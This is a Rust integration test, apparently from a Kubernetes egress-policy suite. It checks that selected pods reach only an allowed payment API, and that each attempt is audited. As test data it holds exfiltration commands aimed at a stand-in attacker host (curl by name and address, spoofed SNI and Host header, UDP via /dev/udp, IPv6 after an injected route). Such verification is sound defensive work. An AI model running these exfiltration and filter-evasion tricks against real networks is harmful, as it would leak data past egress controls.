//! Step 6: what the EgressPolicy allows leaves, nothing else does, and all of it is on record.
//!
//! Every attempt is made three times: from a selected pod with a sidecar, from one without, and
//! from a pod that no policy selects. The last must succeed, or a refusal would prove nothing.

use std::time::Duration;

use anyhow::{Context as _, Result};
use serde_json::Value;

use super::cast;
use crate::{Said, claims::Evidence, cluster, wait_for, world::World};

const PAYMENTS: &str = "https://api.payments.example/";
const ATTACKER: &str = "203.0.113.66";
const ATTACKER6: &str = "2001:db8:113::66";

/// Selected with a sidecar, selected without.
const SELECTED: [(&str, &str); 2] = [("shop", "payer"), ("legacy", "batch")];
/// Selected by nothing.
const FREE: (&str, &str) = ("legacy", "caller");

/// A way to get data to the attacker.
struct Attempt {
    what: &'static str,
    /// For `bash -c`; `MARK` is replaced by a text that the attacker's log is searched for.
    line: &'static str,
}

const ATTEMPTS: [Attempt; 6] = [
    Attempt { what: "by name", line: "curl -sk --max-time 3 https://attacker.example/MARK" },
    Attempt { what: "by address", line: "curl -sk --max-time 3 https://203.0.113.66/MARK" },
    Attempt {
        what: "by a lying SNI",
        line: "curl -sk --max-time 3 --resolve api.payments.example:443:203.0.113.66 https://api.payments.example/MARK",
    },
    Attempt {
        what: "by a lying Host",
        line: "curl -s --max-time 3 -H 'Host: partner.example' http://203.0.113.66/v1/MARK",
    },
    Attempt { what: "over UDP", line: "echo MARK > /dev/udp/203.0.113.66/443; sleep 0.2" },
    Attempt {
        what: "over IPv6",
        line: "curl -sk --max-time 3 http://[2001:db8:113::66]/MARK",
    },
];

pub(super) fn tell(world: &mut World) -> Result<Evidence> {
    let mut evidence = Evidence::default();
    cast(world)?;
    world.directory.write("egress", include_str!("../../cluster/egress.yaml"))?;
    if world.pod(SELECTED[0].0, SELECTED[0].1).is_err() {
        world.start_pod(&cluster::client("shop", "payer", "payment-processor", "node-b"), true)?;
        world.start_pod(&cluster::client("legacy", "batch", "batch", "node-b"), false)?;
    }
    for (namespace, pod) in SELECTED.into_iter().chain([FREE]) {
        give_ipv6(world, namespace, pod)?;
    }
    allowed(world, &mut evidence)?;
    attacks(world, &mut evidence)?;
    record(world, &mut evidence)?;
    Ok(evidence)
}

fn allowed(world: &World, evidence: &mut Evidence) -> Result<()> {
    let root = world.vpc_file("internet-root.pem");
    let root = std::fs::read_to_string(&root).with_context(|| root.display().to_string())?;
    for (namespace, name) in SELECTED {
        let pod = world.pod(namespace, name)?;
        std::fs::write(pod.scratch().join("root.pem"), &root)?;
        let kind = if pod.sidecar.is_some() { "with a sidecar" } else { "without one" };
        let said = shell(world, namespace, name, &format!(
            "curl -sS --max-time 5 -o /dev/null -w '%{{http_code}}' --cacert /run/scratch/root.pem {PAYMENTS}"
        ))?;
        evidence.claim(
            format!("the payment API is reached from a pod {kind}, its certificate verified"),
            said.out.trim() == "200",
            format!("{} {}", said.out.trim(), said.err.trim()),
        );
        let partner = |method: &str, path: &str| {
            shell(world, namespace, name, &format!(
                "curl -s --max-time 5 -o /dev/null -w '%{{http_code}}' -X {method} http://partner.example{path}"
            ))
        };
        let (get, post, other) =
            (partner("GET", "/v1/orders")?, partner("POST", "/v1/orders")?, partner("GET", "/admin")?);
        evidence.claim(
            format!("plaintext HTTP is judged request by request, from a pod {kind}"),
            [get.out.trim(), post.out.trim(), other.out.trim()] == ["200", "403", "403"],
            format!(
                "GET /v1/orders {}, POST {}, GET /admin {}",
                get.out.trim(),
                post.out.trim(),
                other.out.trim()
            ),
        );
    }
    Ok(())
}

fn attacks(world: &World, evidence: &mut Evidence) -> Result<()> {
    for (index, attempt) in ATTEMPTS.iter().enumerate() {
        let (namespace, name) = FREE;
        let mark = format!("free-{index}");
        shell(world, namespace, name, &attempt.line.replace("MARK", &mark))?;
        let open = wait_for(Duration::from_secs(3), || reached(world, &mark).then_some(()));
        evidence.claim(
            format!("the attacker can be reached {} where no policy selects the pod", attempt.what),
            open.is_some() || attempt.what == "over IPv6",
            if open.is_some() { "it got through" } else { "refused: the source is not the pod's" },
        );
        for (namespace, name) in SELECTED {
            let mark = format!("{name}-{index}");
            let said = shell(world, namespace, name, &attempt.line.replace("MARK", &mark))?;
            std::thread::sleep(Duration::from_millis(100));
            let leaked = reached(world, &mark);
            evidence.claim(
                format!("{namespace}/{name} does not reach the attacker {}", attempt.what),
                !leaked,
                if leaked { "it got through".into() } else { format!("status {:?}", said.code) },
            );
        }
    }
    let leaks = sink_log(world).into_iter().filter(|entry| from_selected(world, entry)).count();
    evidence.claim(
        "not one byte from a selected pod is in the attacker's own log",
        leaks == 0,
        format!("{leaks} entries"),
    );
    Ok(())
}

/// Each attempt is on the central record, and the record's chain holds.
fn record(world: &World, evidence: &mut Evidence) -> Result<()> {
    for (namespace, name) in SELECTED {
        let path = format!("/v1/records?namespace={namespace}&pod={name}&limit=500");
        let denied = |records: &[Value], of: &dyn Fn(&Value) -> bool| {
            records.iter().any(|record| record["verdict"] == "denied" && of(record))
        };
        let to = |address: &'static str| move |record: &Value| record["address"] == address;
        let found = wait_for(Duration::from_secs(15), || {
            let records = records(world, &path)?;
            let name_asked = |record: &Value| record.to_string().contains("attacker.example");
            let udp = |record: &Value| record["protocol"] == "udp" && to(ATTACKER)(record);
            let lying = |record: &Value| {
                to(ATTACKER)(record) && record.to_string().contains("api.payments.example")
            };
            let complete = records.iter().any(|record| record["verdict"] == "allowed")
                && denied(&records, &name_asked)
                && denied(&records, &to(ATTACKER))
                && denied(&records, &lying)
                && denied(&records, &udp)
                && denied(&records, &to(ATTACKER6));
            complete.then_some(records.len())
        });
        let seen = records(world, &path).unwrap_or_default();
        evidence.claim(
            format!("every attempt of {namespace}/{name} is on record: by name, by address, lying, UDP, IPv6"),
            found.is_some(),
            format!("{} records", seen.len()),
        );
        if let Some(record) = seen.iter().find(|record| record["verdict"] == "denied") {
            evidence.exhibit(
                format!("One refusal of {namespace}/{name}, as an auditor reads it"),
                serde_json::to_string_pretty(record)?,
            );
        }
    }
    let verified = world.ask_audit("/v1/verify")?;
    evidence.claim(
        "the record verifies: no gap, no change, no truncation",
        verified.status == 200,
        verified.body.chars().take(200).collect::<String>(),
    );
    Ok(())
}

fn records(world: &World, path: &str) -> Option<Vec<Value>> {
    let answer: Value = serde_json::from_str(&world.ask_audit(path).ok()?.body).ok()?;
    let list = answer.get("records").unwrap_or(&answer);
    list.as_array().cloned()
}

/// Gives a pod what an attacker with NET_ADMIN in it would take: an IPv6 address and a route.
fn give_ipv6(world: &World, namespace: &str, name: &str) -> Result<()> {
    let pod = world.pod(namespace, name)?;
    let line = "ip -6 addr replace fd00:bad::5/128 dev eth0 nodad; \
                ip -6 neigh replace fe80::1 lladdr $(ip neigh show 169.254.1.1 | awk '{print $5}') dev eth0; \
                ip -6 route replace fe80::1 dev eth0; ip -6 route replace default via fe80::1 dev eth0";
    let said = world.exec_as(pod, 0, &["bash", "-c", line])?;
    anyhow::ensure!(said.succeeded(), "IPv6 for {namespace}/{name}: {}", said.err);
    Ok(())
}

fn shell(world: &World, namespace: &str, name: &str, line: &str) -> Result<Said> {
    world.exec(namespace, name, &["bash", "-c", line])
}

/// Whether the attacker's host logged this text.
fn reached(world: &World, mark: &str) -> bool {
    let hex = hex::encode(mark);
    sink_log(world).iter().any(|entry| {
        let text = entry.to_string();
        text.contains(mark) || text.contains(&hex)
    })
}

fn sink_log(world: &World) -> Vec<Value> {
    let text = std::fs::read_to_string(world.vpc_file("internet.jsonl")).unwrap_or_default();
    text.lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter(|entry| entry.to_string().contains("attacker"))
        .collect()
}

fn from_selected(world: &World, entry: &Value) -> bool {
    SELECTED.iter().filter_map(|(namespace, name)| world.pod(namespace, name).ok()).any(|pod| {
        entry["peer"].as_str().is_some_and(|peer| peer.starts_with(&pod.address.to_string()))
    })
}
